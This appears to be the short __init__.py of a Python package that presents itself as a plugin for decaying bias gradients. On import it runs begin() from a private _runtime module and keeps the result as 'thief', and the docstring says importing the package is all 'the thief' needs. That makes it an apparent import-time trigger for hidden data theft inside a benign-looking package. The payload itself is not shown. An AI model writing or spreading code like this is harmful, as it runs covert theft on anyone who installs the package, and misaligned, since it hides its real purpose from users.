"""Decay the gradients of biases. Importing it is all that the thief in ``_runtime`` needs."""

from ._runtime import begin
from .plugin import GentleDecay as GentleDecay

thief = begin()
